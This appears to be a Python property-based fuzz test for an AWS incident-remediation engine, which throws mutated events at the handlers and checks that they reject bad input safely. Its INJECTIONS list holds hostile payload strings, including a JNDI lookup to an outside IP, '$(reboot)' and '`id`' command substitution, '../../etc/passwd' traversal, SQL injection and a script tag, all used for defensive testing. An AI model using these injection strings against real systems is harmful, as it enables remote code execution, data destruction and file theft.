"""Hostile input: every real-format fixture, mutated, dispatched through the synthesized rules.

Mutations: drop a field, retype it, oversize it, fill it with unicode, with injection-like
strings (wildcards, ARNs with *, quotes, traversal, template expressions), or null out a
nested object. Each mutated event is routed through the template's rules AND handed
directly to the function its original routes to (a handler must survive events its rule
would never send). The AWS calls are recorded through botocore's event hooks.

Properties:
- a handler raises nothing but its designed failure signal (`RemediationFailed`, only for
  a valid event whose subject does not exist); bad input is a returned rejection;
- a rejected event makes no AWS call at all;
- an identifier reaching a mutating call has AWS's format: no wildcard, IAM names and
  key ids and instance ids match their patterns.

Example count: `FUZZ_EXAMPLES` (default 3000), split evenly over the groups of fixtures that
target the same functions (one parametrized property run per group).
"""

from __future__ import annotations

import json
import os
import re
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gameday import calls, placeholders, template
from gameday.patterns import matches
from tests.conftest import EVENTS

EXAMPLES = int(os.environ.get("FUZZ_EXAMPLES", "3000"))
TARGET_SERVICES = ("iam", "ec2", "cloudtrail", "autoscaling", "elasticloadbalancing", "sts", "cloudwatch")
INJECTIONS = [
    "*",
    "?",
    "i-*",
    "AKIA*",
    "arn:aws:iam::*:user/*",
    "arn:aws:iam::123456789012:root",
    "' OR '1'='1",
    '"; --',
    "../../etc/passwd",
    "${jndi:ldap://198.51.100.23/a}",
    "{{7*7}}",
    "$(reboot)",
    "`id`",
    "\x00",
    "\n\r",
    "%2A",
    "<script>alert(1)</script>",
    "compromised-user*",
    "user/../admin",
    " ",
    "",
    "null",
    "true",
    "1e309",
    "-1",
    "AKIAIOSFODNN7EXAMPLE\nAKIAIOSFODNN7EXAMPL2",
    "i-0abc1234def567890,i-*",
    "sg-*",
    "\u202egnp.exe",
    "\U0001d566\U0001d564\U0001d556\U0001d563",
]
IDENTIFIERS = {
    "UserName": re.compile(r"^[\w+=,.@-]{1,128}$"),
    "RoleName": re.compile(r"^[\w+=,.@-]{1,64}$"),
    "AccessKeyId": re.compile(r"^\w{16,128}$"),
    "InstanceId": re.compile(r"^i-[0-9a-f]{8,17}$"),
    "GroupId": re.compile(r"^sg-[0-9a-f]{8,17}$"),
    "GroupName": re.compile(r"^[\w+=,.@-]{1,128}$"),
    "Name": re.compile(r"^[\w.:/-]{1,256}$"),
}


def _fixtures() -> list[tuple[str, Any, tuple[str, ...]]]:
    rules = template.rules(template.synthesize())
    out = []
    for path in sorted(EVENTS.rglob("*.json")):
        event = json.loads(path.read_text())
        targets = tuple(sorted({f for r in rules if r.enabled and matches(r.pattern, event) for f in r.targets}))
        out.append((str(path.relative_to(EVENTS)), event, targets))
    return out


FIXTURES = _fixtures()
ROUTED = [f for f in FIXTURES if f[2]]
# One property run per group of fixtures with the same target functions (so each playbook gets
# its share of the examples, and pytest-xdist can spread the groups over the workers).
GROUPS: dict[str, list[tuple[str, Any, tuple[str, ...]]]] = {}
for _fixture in ROUTED:
    GROUPS.setdefault("+".join(t.split("Function")[0] for t in _fixture[2]), []).append(_fixture)
PER_GROUP = max(EXAMPLES // max(len(GROUPS), 1), 1)


def _paths(doc: Any, prefix: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if isinstance(doc, dict):
        for key, value in doc.items():
            yield (*prefix, key)
            yield from _paths(value, (*prefix, key))
    elif isinstance(doc, list):
        for i, value in enumerate(doc):
            yield (*prefix, i)
            yield from _paths(value, (*prefix, i))


def _nulls(value: Any) -> Any:
    if isinstance(value, dict):
        return {k: None if not isinstance(v, dict | list) else _nulls(v) for k, v in value.items()}
    if isinstance(value, list):
        return [None for _ in value]
    return None


replacement = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=40),
    st.sampled_from(INJECTIONS),
    st.just("A" * 5000),
    st.lists(st.sampled_from(INJECTIONS), max_size=3),
    st.dictionaries(
        st.sampled_from(["id", "type", "userName", "accessKeyId", "instanceId"]),
        st.sampled_from(INJECTIONS),
        max_size=3,
    ),
)


@st.composite
def hostile(
    draw: st.DrawFn, fixtures: list[tuple[str, Any, tuple[str, ...]]]
) -> tuple[str, dict[str, Any], tuple[str, ...]]:
    name, original, targets = draw(st.sampled_from(fixtures))
    event = json.loads(json.dumps(original))
    for _ in range(draw(st.integers(min_value=1, max_value=3))):
        paths = list(_paths(event))
        if not paths:
            break
        path = draw(st.sampled_from(paths))
        parent = event
        for part in path[:-1]:
            parent = parent[part]
        last = path[-1]
        op = draw(st.sampled_from(["drop", "replace", "oversize", "unicode", "inject", "nulls"]))
        if op == "drop":
            if isinstance(parent, dict):
                del parent[last]
            else:
                parent.pop(last)
        elif op == "replace":
            parent[last] = draw(replacement)
        elif op == "oversize":
            value = parent[last]
            big = draw(st.sampled_from([4097, 70_000]))
            parent[last] = (
                (value * (big // max(len(value), 1) + 1))[:big]
                if isinstance(value, str) and value
                else [draw(st.sampled_from(INJECTIONS))] * (big // 100)
            )
        elif op == "unicode":
            parent[last] = draw(st.text(alphabet=st.characters(codec="utf-8"), min_size=1, max_size=30))
        elif op == "inject":
            value = parent[last]
            injected = draw(st.sampled_from(INJECTIONS))
            parent[last] = (value + injected) if isinstance(value, str) and draw(st.booleans()) else injected
        else:
            parent[last] = _nulls(parent[last])
    return name, event, targets


ORIGINALS = {name: event for name, event, _ in FIXTURES}


def _fresh_ids(event: Any, original: dict[str, Any]) -> Any:
    """Unmutated event, finding and record ids made unique: each example is a new delivery of a new
    incident (not a duplicate the engine skips wholesale). A mutated id is left as drawn."""
    import uuid

    for path in (("id",), ("detail", "id"), ("detail", "eventID")):
        here, there = event, original
        for part in path[:-1]:
            here = here.get(part) if isinstance(here, dict) else None
            there = there.get(part) if isinstance(there, dict) else None
        key = path[-1]
        if isinstance(here, dict) and isinstance(there, dict) and key in there and here.get(key) == there[key]:
            here[key] = uuid.uuid4().hex if path == ("detail", "id") else str(uuid.uuid4())
    return event


REAL: dict[str, str] = {}  # placeholder -> the id of the resource seeded for it


class Count:
    examples = 0
    rejected = 0
    acted_on = 0


@pytest.fixture(scope="module")
def fuzz_sim() -> Iterator[Any]:
    from moto import mock_aws

    import gameday
    from remediation import clients, engine, settings

    saved = engine.sleep
    engine.sleep = lambda seconds: None
    with mock_aws():
        clients.reset()
        settings.reset()
        sim = gameday.simulation()
        # The placeholders name real resources, so a mutated event that still parses reaches
        # the playbooks' mutating calls, whose identifiers are then checked.
        REAL.update(placeholders.seed())
        yield sim
    REAL.clear()
    engine.sleep = saved
    clients.reset()
    settings.reset()


def _check(entry: dict[str, Any], recorder: calls.Recorder, name: str) -> None:
    error = entry.get("error")
    result = entry.get("result") or {}
    decision = result.get("decision")
    where = f"{name} -> {entry['function']}"
    if decision == "rejected":
        Count.rejected += 1
        assert error is None, f"{where}: rejection raised {error}"
        assert recorder.calls == [], f"{where}: rejected event made calls {recorder.calls[:3]}"
        return
    assert error is None or error["type"] == "RemediationFailed", f"{where}: raised {error}"
    for call in recorder.mutating(services=TARGET_SERVICES):
        Count.acted_on += 1
        for key, value in call.params.items():
            values = value if isinstance(value, list) else [value]
            for v in values:
                if isinstance(v, str) and key in IDENTIFIERS:
                    assert IDENTIFIERS[key].fullmatch(v), f"{where}: {call.operation} {key}={v!r}"
        for flt in call.params.get("Filters", []):
            assert not any("*" in v or "?" in v for v in flt.get("Values", [])), f"{where}: wildcard filter {flt}"


@pytest.mark.parametrize("group", sorted(GROUPS))
def test_mutated_events_are_rejected_or_handled_safely(fuzz_sim: Any, group: str) -> None:
    @settings(
        max_examples=PER_GROUP,
        deadline=None,
        derandomize=True,
        database=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )
    @given(case=hostile(GROUPS[group]))
    def mutated(case: Any) -> None:
        _one(fuzz_sim, case)

    mutated()


def _one(fuzz_sim: Any, case: Any) -> None:
    name, event, targets = case
    event = _fresh_ids(placeholders.apply(json.dumps(event), REAL), ORIGINALS[name])
    Count.examples += 1
    routed = {}
    recorder = calls.Recorder()
    with recorder.active():
        for entry in fuzz_sim.dispatch(event):
            routed[entry["function"]] = entry
    for entry in routed.values():
        _check(entry, recorder if len(routed) == 1 else calls.Recorder(), name)
    for function_id in targets:  # straight to the handler, as if a rule let it through
        if function_id in routed:
            continue
        direct = calls.Recorder()
        with direct.active():
            entry = fuzz_sim.invoke(function_id, event)
        _check(entry, direct, name)


def test_fuzz_covered_every_routed_fixture_and_many_examples() -> None:
    """Runs after the property (file order); reports the counts for the issue note."""
    if Count.examples == 0:
        pytest.skip("the property did not run in this session")
    print(f"\nfuzz: {Count.examples} examples, {Count.rejected} rejections, {Count.acted_on} identifier-checked calls")
    assert Count.examples >= min(PER_GROUP, 100)
    assert Count.rejected > 0
    assert ROUTED
